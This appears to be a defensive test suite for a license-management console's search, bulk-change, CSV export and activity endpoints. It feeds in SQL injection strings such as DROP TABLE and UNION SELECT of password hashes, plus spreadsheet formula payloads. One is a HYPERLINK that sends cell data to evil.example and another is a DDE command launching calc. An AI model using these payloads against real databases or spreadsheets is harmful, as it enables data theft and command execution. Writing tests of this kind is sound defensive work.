// Attacks on the console endpoints merged in issue 17, through their real handlers (the REST face
// with a bearer API key, the CSV export handler, the gRPC licensing API) on each database:
// - text search `q`: SQL injection through SQLite's raw `LIKE ? ESCAPE` path, wildcard and escape
//   tricks, many wildcard matches, over-long text, another group's rows;
// - bulk change: roles, another group's ids, duplicate/odd/huge ids, bad bodies (4xx, never 500);
// - CSV exports: another group's rows by filter or by ids, formula cells in every text column;
// - license activity: another group's license, and the per-license counter fed by padded or
//   differently written keys (memory bound and counting).
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createAdmin } from "../../src/server/core/admins/create-admin.ts";
import { createApiKey } from "../../src/server/core/api-keys/create-api-key.ts";
import type { Role } from "../../src/server/core/context.ts";
import { createCustomer } from "../../src/server/core/customers/create-customer.ts";
import { exportAuditEvents } from "../../src/server/core/audit/export-audit-events.ts";
import { exportCustomers } from "../../src/server/core/customers/export-customers.ts";
import { revokeLicense } from "../../src/server/core/licenses/revoke-license.ts";
import { exportLicenses } from "../../src/server/core/licenses/export-licenses.ts";
import { exportSessions } from "../../src/server/core/sessions/export-sessions.ts";
import { ActivityCounter, MAX_KEYS_PER_FLUSH } from "../../src/server/core/stats/activity.ts";
import { createLogger } from "../../src/server/logger.ts";
import { getLicenseActivity } from "../../src/server/core/stats/get-license-activity.ts";
import type { ApiServices } from "../../src/server/trpc/context.ts";
import { csvCell, handleCsvExport } from "../../src/server/trpc/csv-export.ts";
import { handleRestRequest } from "../../src/server/trpc/handlers.ts";
import { testServices } from "../support/admin-services.ts";
import { describeEachDb, type TestDb } from "../support/db.ts";
import { makeGroup, makeLicense, makeWorld, unique } from "../support/fixtures.ts";
import { fingerprint, startLicensingServer, type LicensingServer } from "../support/licensing.ts";

const BASE = "http://127.0.0.1:3000/api/v1";
type Exporter = Parameters<typeof handleCsvExport>[2];
type Json = Record<string, unknown>;

function must<T>(value: T | undefined): T {
  if (value === undefined) throw new Error("missing test value");
  return value;
}

describeEachDb("issue 17 attacks: search, bulk change, exports, activity", (getDb) => {
  let db: TestDb;
  let services: ApiServices;
  let world: Awaited<ReturnType<typeof makeWorld>>;
  /** API keys: `${role}A` scoped to group A, `adminB` scoped to group B */
  const keys: Record<string, string> = {};
  const key = (name: string) => must(keys[name]);

  const rest = async (method: string, path: string, apiKey: string, body?: unknown) => {
    const response = await handleRestRequest(
      new Request(`${BASE}${path}`, {
        method,
        headers: { authorization: `Bearer ${apiKey}`, "content-type": "application/json" },
        ...(body === undefined ? {} : { body: typeof body === "string" ? body : JSON.stringify(body) }),
      }),
      services,
    );
    const text = await response.text();
    let json: Json;
    try {
      json = JSON.parse(text) as Json;
    } catch {
      json = { raw: text };
    }
    return { status: response.status, body: json };
  };
  const csv = async (exporter: Exporter, path: string, apiKey: string, body?: unknown) => {
    const response = await handleCsvExport(
      new Request(`${BASE}${path}`, {
        method: body === undefined ? "GET" : "POST",
        headers: { authorization: `Bearer ${apiKey}`, "content-type": "application/json" },
        ...(body === undefined ? {} : { body: JSON.stringify(body) }),
      }),
      services,
      exporter,
    );
    return { status: response.status, text: await response.text() };
  };

  beforeAll(async () => {
    db = getDb();
    services = testServices(db, "d".repeat(40));
    world = await makeWorld(db);
    const scoped: [string, Role, string][] = [
      ["viewerA", "viewer", world.groupA.id],
      ["editorA", "editor", world.groupA.id],
      ["adminA", "admin", world.groupA.id],
      ["adminB", "admin", world.groupB.id],
    ];
    for (const [name, role, groupId] of scoped) {
      const admin = await createAdmin(db.ctx(), {
        email: `${unique(name)}@example.com`,
        role,
        password: "console-attack-password",
        groupIds: [groupId],
      });
      const created = await createApiKey(
        db.ctx({ type: "admin", id: admin.id, label: admin.email, role, groupIds: [groupId] }),
        { name: `${name} key`, role },
      );
      keys[name] = created.key;
    }
    const root = await createAdmin(db.ctx(), {
      email: `${unique("super")}@example.com`,
      role: "super_admin",
      password: "console-attack-password",
      groupIds: [],
    });
    keys.super = (
      await createApiKey(
        db.ctx({ type: "admin", id: root.id, label: root.email, role: "super_admin", groupIds: [] }),
        { name: "super key", role: "super_admin" },
      )
    ).key;
  });

  describe("text search", () => {
    it("binds SQL injection text as a literal on the raw LIKE path (no rows leak, tables intact)", async () => {
      const tag = unique("inj");
      const group = await makeGroup(db);
      await createCustomer(db.ctx(), { name: `${tag} 100%_done`, groupId: group.id });
      const before = await db.handle.db.customer.count();
      const payloads = [
        `%' OR '1'='1`,
        `_" OR 1=1 --`,
        `%'); DROP TABLE "Customer"; --`,
        `\\%' ESCAPE '' OR 1=1 --`,
        `_') UNION SELECT "passwordHash" FROM "Admin" --`,
      ];
      for (const q of payloads) {
        const { status, body } = await rest("GET", `/customers?q=${encodeURIComponent(q)}`, key("adminA"));
        expect([200, 400], q).toContain(status);
        if (status === 200) expect(body.total, q).toBe(0);
        else expect(String(body.message), q).toMatch(/q/);
      }
      expect(await db.handle.db.customer.count()).toBe(before);
      // a NUL (PostgreSQL text cannot hold it): a precise 400 on every search, not a 500
      for (const path of [
        "/customers?",
        "/licenses?",
        "/search?",
        "/products?",
        "/groups?",
        `/policies?productId=${world.product.id}&`,
      ]) {
        const { status, body } = await rest(
          "GET",
          `${path}q=${encodeURIComponent("%\u0000%")}`,
          key("adminA"),
        );
        expect(status, path).toBe(400);
        expect(String(body.message), path).toMatch(/q: must not contain NUL characters/);
      }
    });

    it("treats % _ and \\ literally and keeps to the caller's groups", async () => {
      const tag = unique("wild").replace("-", "");
      const mine = await createCustomer(db.ctx(), { name: `${tag} 50%_off\\x`, groupId: world.groupA.id });
      await createCustomer(db.ctx(), { name: `${tag} 50X_off`, groupId: world.groupA.id });
      await createCustomer(db.ctx(), { name: `${tag} 50%_off\\x other`, groupId: world.groupB.id });
      const names = async (q: string, apiKey: string) => {
        const { status, body } = await rest("GET", `/customers?q=${encodeURIComponent(q)}`, apiKey);
        expect(status, q).toBe(200);
        return (body.items as { id: string; name: string }[])
          .map((c) => c.name)
          .filter((n) => n.startsWith(tag));
      };
      expect(await names(`${tag} 50%`, key("adminA"))).toEqual([mine.name]);
      expect(await names(`%_off\\`, key("adminA"))).toEqual([mine.name]);
      expect(await names(`${tag} 50_`, key("adminA"))).toEqual([]);
      // group B's admin sees only group B's customer, by the same wildcard text
      expect(await names(`${tag} 50%_off\\x`, key("adminB"))).toEqual([`${tag} 50%_off\\x other`]);
      // the palette's search: same scope
      const search = await rest("GET", `/search?q=${encodeURIComponent(`${tag} 50%`)}`, key("adminB"));
      expect(search.status).toBe(200);
      expect((search.body.customers as { id: string }[]).map((c) => c.id)).not.toContain(mine.id);
    });

    it("pages and counts a wildcard search with more matches than one query's bind limit", async () => {
      const group = await makeGroup(db);
      const tag = unique("many").replace("-", "");
      const made = 1100;
      await db.handle.db.customer.createMany({
        data: Array.from({ length: made }, (_, i) => ({
          name: `${tag}_${String(i).padStart(4, "0")}`,
          company: "",
          groupId: group.id,
        })),
      });
      const list = await rest(
        "GET",
        `/customers?q=${encodeURIComponent(`${tag}_`)}&pageSize=10&page=3`,
        key("adminA"),
      );
      // group A's admin: none of group C's customers
      expect(list.status).toBe(200);
      expect(list.body.total).toBe(0);
      const admin = await createAdmin(db.ctx(), {
        email: `${unique("c")}@example.com`,
        role: "viewer",
        password: "console-attack-password",
        groupIds: [group.id],
      });
      const created = await createApiKey(
        db.ctx({ type: "admin", id: admin.id, label: admin.email, role: "viewer", groupIds: [group.id] }),
        { name: "c key", role: "viewer" },
      );
      const own = await rest(
        "GET",
        `/customers?q=${encodeURIComponent(`${tag}_`)}&pageSize=10&page=3`,
        created.key,
      );
      expect(own.status).toBe(200);
      expect(own.body.total).toBe(made);
      expect((own.body.items as unknown[]).length).toBe(10);
      const exported = await csv(
        exportCustomers,
        `/customers/export.csv?q=${encodeURIComponent(`${tag}_`)}`,
        created.key,
      );
      expect(exported.status).toBe(200);
      expect(exported.text.trim().split("\r\n").length).toBe(made + 1);
    });

    it("lists the licenses of a name search matching more than 999 customers", async () => {
      const group = await makeGroup(db);
      const tag = unique("crowd").replace("-", "");
      await db.handle.db.customer.createMany({
        data: Array.from({ length: 1050 }, (_, i) => ({
          name: `${tag} ${i}`,
          company: "",
          groupId: group.id,
        })),
      });
      const first = await db.handle.db.customer.findFirstOrThrow({ where: { name: `${tag} 7` } });
      const license = await makeLicense(db, first.id, world.product.id);
      const { status, body } = await rest(
        "GET",
        `/licenses?q=${encodeURIComponent(tag)}&groupId=${group.id}`,
        keys.super ?? "",
      );
      expect(status).toBe(200);
      expect((body.items as { id: string }[]).map((l) => l.id)).toEqual([license.id]);
    });

    it("refuses over-long and malformed search text with 400 and a precise message", async () => {
      const long = "%".repeat(201);
      for (const path of [`/customers?q=${long}`, `/licenses?q=${long}`, `/search?q=${long}`]) {
        const { status, body } = await rest("GET", path, key("adminA"));
        expect(status, path).toBe(400);
        expect(String(body.message), path).toMatch(/q: .*200/);
      }
      const empty = await rest("GET", `/search?q=${encodeURIComponent("   ")}`, key("adminA"));
      expect(empty.status).toBe(400);
      expect(String(empty.body.message)).toMatch(/q: is required/);
      const limit = await rest("GET", `/search?q=a&limit=1e9`, key("adminA"));
      expect(limit.status).toBe(400);
      const broken = await rest("GET", `/customers?q=%E0%A4%A`, key("adminA"));
      expect(broken.status).toBeLessThan(500);
    });
  });

  describe("bulk change", () => {
    it("refuses a viewer whole, lets an editor renew but not suspend", async () => {
      const license = await makeLicense(db, world.customer.id, world.product.id);
      const viewer = await rest("POST", "/licenses/bulk-change", key("viewerA"), {
        action: "renew",
        ids: [license.id],
        extendDays: 1,
      });
      expect(viewer.status).toBe(403);
      const editor = await rest("POST", "/licenses/bulk-change", key("editorA"), {
        action: "suspend",
        ids: [license.id],
      });
      expect(editor.status).toBe(403);
      const row = await db.handle.db.license.findUniqueOrThrow({ where: { id: license.id } });
      expect(row.status).toBe("active");
    });

    it("gives another group's admin not found for every id, changing nothing and leaking no key", async () => {
      const licenses = [
        await makeLicense(db, world.customer.id, world.product.id),
        await makeLicense(db, world.customer.id, world.product.id),
      ];
      const ids = licenses.map((l) => l.id);
      const { status, body } = await rest("POST", "/licenses/bulk-change", key("adminB"), {
        action: "suspend",
        ids: [...ids, ...ids],
      });
      expect(status).toBe(200);
      expect(body.applied).toEqual([]);
      expect(body.refused).toEqual(
        ids.map((id) => ({ id, key: null, code: "NOT_FOUND", reason: `license ${id} was not found` })),
      );
      expect(JSON.stringify(body)).not.toContain(must(licenses[0]).key);
      const rows = await db.handle.db.license.findMany({
        where: { id: { in: ids } },
        select: { status: true },
      });
      expect(rows.map((r) => r.status)).toEqual(["active", "active"]);
    });

    it("answers bad bodies with 4xx, never 500", async () => {
      const bodies: unknown[] = [
        "{not json",
        "[]",
        "null",
        { action: "suspend" },
        { action: "suspend", ids: "abc" },
        { action: "suspend", ids: [1, 2] },
        { action: "suspend", ids: [{ id: "x" }] },
        { action: "suspend", ids: [null] },
        { action: "suspend", ids: ["x".repeat(100_000)] },
        { action: "suspend", ids: Array.from({ length: 501 }, () => "same") },
        { action: "renew", ids: ["x"], expiresAt: "not a date" },
        { action: "renew", ids: ["x"], extendDays: 1e12 },
        { action: "renew", ids: ["x"], extendDays: -5 },
        { action: "renew", ids: ["x"], expiresAt: "275760-09-13T00:00:00.001Z" },
        { action: "suspend", ids: ["x"], reason: "r".repeat(100_000) },
        { action: "__proto__", ids: ["x"] },
      ];
      for (const body of bodies) {
        const { status, body: answer } = await rest("POST", "/licenses/bulk-change", key("adminA"), body);
        const label = typeof body === "string" ? body : JSON.stringify(body).slice(0, 80);
        expect(status, label).toBeGreaterThanOrEqual(400);
        expect(status, label).toBeLessThan(500);
        expect(String(answer.message), label).not.toMatch(/prisma|at .*\.ts:\d+|stack/i);
      }
      // the empty string and an id with LIKE/SQL characters are ids like any other: not found
      const odd = await rest("POST", "/licenses/bulk-change", key("adminA"), {
        action: "suspend",
        ids: ["%", "' OR 1=1 --", "\\"],
      });
      expect(odd.status).toBe(200);
      expect((odd.body.refused as { code: string }[]).map((r) => r.code)).toEqual([
        "NOT_FOUND",
        "NOT_FOUND",
        "NOT_FOUND",
      ]);
    });

    it("refuses to extend past year 9999 (PostgreSQL read it back as an invalid date: 500)", async () => {
      const license = await makeLicense(db, world.customer.id, world.product.id);
      const set = await rest("PATCH", `/licenses/${license.id}`, key("adminA"), {
        expiresAt: "9999-12-31T23:59:59Z",
      });
      expect(set.status).toBe(200);
      const renewed = await rest("POST", "/licenses/bulk-change", key("adminA"), {
        action: "renew",
        ids: [license.id],
        extendDays: 3650,
      });
      expect(renewed.status, JSON.stringify(renewed.body)).toBe(200);
      expect(renewed.body.refused).toEqual([
        {
          id: license.id,
          key: license.key,
          code: "INVALID_ARGUMENT",
          reason: "extendDays: the new expiry would be after 9999-12-31",
        },
      ]);
      const single = await rest("POST", `/licenses/${license.id}/renew`, key("adminA"), { extendDays: 1 });
      expect(single.status).toBe(400);
      expect(single.body.message).toBe("extendDays: the new expiry would be after 9999-12-31");
      // issued with a duration that ends after 9999: refused the same way, nothing written
      const created = await rest("POST", "/licenses", key("adminA"), {
        customerId: world.customer.id,
        productId: world.product.id,
        seatLimit: 1,
        startsAt: "9999-06-01T00:00:00Z",
        durationDays: 36_500,
      });
      expect(created.status, JSON.stringify(created.body)).toBe(400);
      expect(created.body.message).toBe("durationDays: the new expiry would be after 9999-12-31");
      const read = await rest("GET", `/licenses/${license.id}`, key("adminA"));
      expect(read.status).toBe(200);
      const exported = await csv(
        exportLicenses,
        `/licenses/export.csv?customerId=${world.customer.id}`,
        key("adminA"),
      );
      expect(exported.status).toBe(200);
      const listed = await rest(
        "GET",
        `/licenses?customerId=${world.customer.id}&sort=expiresAt`,
        key("adminA"),
      );
      expect(listed.status).toBe(200);
    });

    it("suspends 500 real licenses with open sessions in one call, in one transaction", async () => {
      const customer = await createCustomer(db.ctx(), { name: unique("bulk500"), groupId: world.groupA.id });
      const ids: string[] = [];
      for (let i = 0; i < 500; i++) ids.push((await makeLicense(db, customer.id, world.product.id)).id);
      await db.handle.db.session.createMany({
        data: ids.map((licenseId, i) => ({
          licenseId,
          fingerprint: `fp-bulk-${i}`,
          startedAt: db.clock.now(),
          lastHeartbeatAt: db.clock.now(),
          deadlineAt: new Date(db.clock.now().getTime() + 60_000),
        })),
      });
      const { status, body } = await rest("POST", "/licenses/bulk-change", key("adminA"), {
        action: "suspend",
        ids,
        reason: "bulk 500",
      });
      expect(status, JSON.stringify(body).slice(0, 300)).toBe(200);
      expect((body.applied as unknown[]).length).toBe(500);
      expect(await db.handle.db.session.count({ where: { licenseId: { in: ids }, endedAt: null } })).toBe(0);
      // (it took ~3 s on SQLite and ~6 s on PostgreSQL alone, 16 s under a full run: time is
      // not asserted here, the batch's own 60 s transaction timeout is what must not run out)
    }, 120_000);

    it("two opposite batches at once leave every license in one consistent state", async () => {
      const batch: string[] = [];
      for (let i = 0; i < 6; i++) batch.push((await makeLicense(db, world.customer.id, world.product.id)).id);
      await rest("POST", "/licenses/bulk-change", key("adminA"), {
        action: "suspend",
        ids: batch.slice(0, 3),
      });
      const audits = await db.handle.db.auditEvent.count();
      const [suspend, reinstate] = await Promise.all([
        rest("POST", "/licenses/bulk-change", key("adminA"), { action: "suspend", ids: batch }),
        rest("POST", "/licenses/bulk-change", key("adminA"), {
          action: "reinstate",
          ids: [...batch].reverse(),
        }),
      ]);
      expect([suspend.status, reinstate.status]).toEqual([200, 200]);
      const applied =
        (suspend.body.applied as unknown[]).length + (reinstate.body.applied as unknown[]).length;
      expect(await db.handle.db.auditEvent.count()).toBe(audits + applied);
    });
  });

  describe("CSV exports", () => {
    it("keeps another group's licenses out by groupId, customerId and ids", async () => {
      const theirs = await makeLicense(db, world.customer.id, world.product.id);
      const attempts: [string, unknown?][] = [
        [`/licenses/export.csv?groupId=${world.groupA.id}`],
        [`/licenses/export.csv?customerId=${world.customer.id}`],
        [`/licenses/export.csv?q=${encodeURIComponent(theirs.key)}`],
        [`/licenses/export.csv`, { ids: [theirs.id] }],
        [`/licenses/export.csv`, { ids: [theirs.id], groupId: world.groupA.id }],
      ];
      for (const [path, body] of attempts) {
        const { status, text } = await csv(exportLicenses, path, key("adminB"), body);
        expect(status, path).toBe(200);
        expect(text, path).not.toContain(theirs.key);
        expect(text.trim().split("\r\n"), path).toHaveLength(1);
      }
      const tooMany = await csv(exportLicenses, `/licenses/export.csv`, key("adminA"), {
        ids: Array.from({ length: 501 }, (_, i) => `id-${i}`),
      });
      expect(tooMany.status).toBe(400);
      const badBody = await csv(exportLicenses, `/licenses/export.csv`, key("adminA"), ["x"]);
      expect(badBody.status).toBe(400);
    });

    it("refuses an unknown sort column and keeps another group's audit trail out", async () => {
      for (const path of [
        `/licenses/export.csv?sort=${encodeURIComponent('key"; DROP TABLE "License"; --')}`,
        `/licenses/export.csv?direction=sideways`,
        `/licenses/export.csv?sort=password`,
      ]) {
        const { status, text } = await csv(exportLicenses, path, key("adminA"));
        expect(status, path).toBe(400);
        expect(text, path).not.toMatch(/prisma|\.ts:\d+/i);
      }
      const theirs = await makeLicense(db, world.customer.id, world.product.id);
      await rest("POST", `/licenses/${theirs.id}/suspend`, key("adminA"), { reason: "secret reason A" });
      const audit = await csv(
        exportAuditEvents,
        `/audit-events/export.csv?targetId=${theirs.id}`,
        key("adminB"),
      );
      expect(audit.status).toBe(200);
      expect(audit.text).not.toContain(theirs.id);
      expect(audit.text).not.toContain("secret reason A");
    });

    it("escapes formula cells in every text column, including a customer's name in a license row", async () => {
      const formula = `=HYPERLINK("http://evil.example/?"&A1,"x")`;
      const customer = await createCustomer(db.ctx(), {
        name: formula,
        email: "ops@example.com",
        company: "+cmd|' /C calc'!A0",
        groupId: world.groupA.id,
      });
      await makeLicense(db, customer.id, world.product.id);
      const licenses = await csv(
        exportLicenses,
        `/licenses/export.csv?customerId=${customer.id}`,
        key("adminA"),
      );
      expect(licenses.status).toBe(200);
      const customers = await csv(exportCustomers, `/customers/export.csv?q=HYPERLINK`, key("adminA"));
      for (const text of [licenses.text, customers.text]) {
        // every cell that a spreadsheet would run starts with ' (quoted or not)
        expect(text).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);
      }
      expect(customers.text).toContain(`'+cmd|' /C calc'!A0`);
    });

    it("documents the escaping rule's edges", () => {
      // held: the characters a spreadsheet starts a formula with, and a leading tab or CR
      for (const lead of ["=", "+", "-", "@", "\t", "\r"]) expect(csvCell(`${lead}X`)).toBe(`'${lead}X`);
      // not escaped: a leading space or line feed before "=", full-width "＝" (U+FF1D); common
      // spreadsheets read these cells as text (they start with neither character above)
      expect(csvCell(" =1+1")).toBe(" =1+1");
      expect(csvCell("\n=1+1")).toBe("\n=1+1");
      expect(csvCell("＝1+1")).toBe("＝1+1");
    });
  });

  describe("licenses.update expiresAt", () => {
    const patch = (id: string, apiKey: string, body: unknown) =>
      rest("PATCH", `/licenses/${id}`, apiKey, body);

    it("keeps to the role and the group, refuses bad dates with 400", async () => {
      const license = await makeLicense(db, world.customer.id, world.product.id);
      const later = new Date(db.clock.now().getTime() + 30 * 86_400_000).toISOString();
      expect((await patch(license.id, key("viewerA"), { expiresAt: later })).status).toBe(403);
      expect((await patch(license.id, key("adminB"), { expiresAt: later })).status).toBe(404);
      for (const expiresAt of ["not a date", "2026-13-01T00:00:00Z", "275760-09-13T00:00:00.001Z", 12, {}]) {
        const { status, body } = await patch(license.id, key("editorA"), { expiresAt });
        expect(status, JSON.stringify(expiresAt)).toBe(400);
        expect(String(body.message), JSON.stringify(expiresAt)).toMatch(/expiresAt/);
      }
      const before = await patch(license.id, key("editorA"), { expiresAt: "2000-01-01T00:00:00Z" });
      expect(before.status).toBe(400);
      expect(String(before.body.message)).toMatch(/expiresAt: .*start/);
      const row = await db.handle.db.license.findUniqueOrThrow({ where: { id: license.id } });
      expect(row.expiresAt).toBeNull();
      const ok = await patch(license.id, key("editorA"), { expiresAt: later });
      expect(ok.status).toBe(200);
      await revokeLicense(db.ctx(), { id: license.id });
      const revoked = await patch(license.id, key("adminA"), { expiresAt: null });
      expect(revoked.status).toBe(412);
    });

    it("documents: an editor may set an expiry already past (renew refuses it), ending the license", async () => {
      const license = await makeLicense(db, world.customer.id, world.product.id);
      const past = new Date(db.clock.now().getTime() + 1).toISOString();
      db.clock.advance(10);
      const renew = await rest("POST", `/licenses/${license.id}/renew`, key("editorA"), {
        expiresAt: new Date(db.clock.now().getTime() - 1).toISOString(),
      });
      expect(renew.status).toBe(400);
      const { status, body } = await patch(license.id, key("editorA"), { expiresAt: past });
      // held by design: a fixed expiry after the start, as when issued (an editor could renew to
      // a second from now just as well); the license is expired from then on
      expect(status).toBe(200);
      expect(body.status === "expired" || body.status === "active").toBe(true);
    });
  });

  describe("license activity", () => {
    let server: LicensingServer;
    beforeAll(async () => {
      server = await startLicensingServer(db);
    });
    afterAll(async () => {
      await server.close();
    });

    it("refuses another group's license as not found, and bad ranges with 400", async () => {
      const theirs = await makeLicense(db, world.customer.id, world.product.id);
      const other = await rest("GET", `/licenses/${theirs.id}/activity`, key("adminB"));
      expect(other.status).toBe(404);
      const missing = await rest("GET", `/licenses/no-such/activity`, key("adminA"));
      expect(missing.status).toBe(404);
      for (const query of [
        "granularity=hour&from=1970-01-01T00:00:00Z",
        "from=2026-06-02T00:00:00Z&to=2026-06-01T00:00:00Z",
        "from=yesterday",
        "granularity=minute",
      ]) {
        const { status } = await rest("GET", `/licenses/${theirs.id}/activity?${query}`, key("adminA"));
        expect(status, query).toBe(400);
      }
    });

    it("counts a license's validations however the client writes its key", async () => {
      const license = await makeLicense(db, world.customer.id, world.product.id);
      const client = () => ({
        productCode: world.product.code,
        fingerprint: fingerprint(),
        clientVersion: "1.0.0",
        hostname: "host",
        components: [],
      });
      const spellings = [
        license.key,
        license.key.toLowerCase(),
        license.key.replace(/-/g, ""),
        `  ${license.key}  `,
      ];
      for (const licenseKey of spellings) await server.client.validate({ licenseKey, client: client() });
      await server.gateway.services.activity.flush();
      const activity = await getLicenseActivity(db.ctx(), { licenseId: license.id, granularity: "day" });
      const total = activity.series.reduce((sum, p) => sum + p.validations, 0);
      expect(total).toBe(spellings.length);
    });

    it("escapes the formula cells an internet client writes into the sessions export", async () => {
      const license = await makeLicense(db, world.customer.id, world.product.id);
      const hostnames = [`=HYPERLINK("http://evil.example/?"&A1,"x")`, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"];
      for (const hostname of hostnames) {
        const answer = await server.client.activate({
          licenseKey: license.key,
          client: {
            productCode: world.product.code,
            fingerprint: fingerprint(),
            clientVersion: "+1.0",
            hostname,
            components: [],
          },
        });
        expect(answer.sessionId).not.toBe("");
      }
      const { status, text } = await csv(
        exportSessions,
        `/sessions/export.csv?licenseId=${license.id}`,
        key("adminA"),
      );
      expect(status).toBe(200);
      expect(text).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);
      for (const hostname of hostnames) expect(text).toContain(`'${hostname}`.replace(/"/g, '""'));
      const other = await csv(exportSessions, `/sessions/export.csv?licenseId=${license.id}`, key("adminB"));
      expect(other.status).toBe(404);
      expect(other.text).not.toContain("evil.example");
    });

    it("keeps the per-key counts bounded by count against a flood of made-up well-formed keys", async () => {
      const counter = new ActivityCounter(db.handle.db, createLogger({ level: "silent" }));
      const alphabet = "0123456789ABCDEFGHJKMNPQRSTVWXYZ";
      const made = (n: number) => {
        let text = "";
        for (let i = 0; i < 25; i++) {
          text += alphabet.charAt(n % 32);
          n = Math.floor(n / 32);
        }
        return text.replace(/(.{5})(?=.)/g, "$1-");
      };
      const at = db.clock.now();
      for (let i = 0; i < MAX_KEYS_PER_FLUSH + 500; i++) counter.record(at, false, made(i + 1));
      const perKey = (counter as unknown as { perKey: Map<string, unknown> }).perKey;
      expect(perKey.size).toBe(MAX_KEYS_PER_FLUSH);
      await counter.flush();
      expect(perKey.size).toBe(MAX_KEYS_PER_FLUSH); // the old map, now replaced
      expect((counter as unknown as { perKey: Map<string, unknown> }).perKey.size).toBe(0);
    });

    it("keeps the per-key counts bounded by size, not only by count, against padded keys", async () => {
      const license = await makeLicense(db, world.customer.id, world.product.id);
      const counter = server.gateway.services.activity;
      await counter.flush();
      const pad = " ".repeat(50_000);
      // a well-formed key padded with whitespace passes validation (trimmed before the length check)
      const answer = await server.client.validate({
        licenseKey: `${pad}${license.key}${pad}`,
        client: {
          productCode: world.product.code,
          fingerprint: fingerprint(),
          clientVersion: "1.0.0",
          hostname: "host",
          components: [],
        },
      });
      expect(answer.status).toBeDefined();
      const perKey = (counter as unknown as { perKey: Map<string, unknown> }).perKey;
      const longest = Math.max(0, ...[...perKey.keys()].map((k) => k.length));
      // the hour prefix, a space and the 29-character key: never the padding
      expect(longest).toBeLessThan(64);
      expect(perKey.size).toBeLessThanOrEqual(MAX_KEYS_PER_FLUSH);
      await counter.flush();
    });
  });
});
